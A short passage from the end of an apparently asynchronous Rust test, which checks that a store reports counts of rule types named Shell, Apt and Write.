        .await
        .unwrap();
    assert_eq!(
        store.rule_counts().await.unwrap(),
        want(&[("Shell", 2), ("Apt", 1), ("Write", 1)])
    );
}
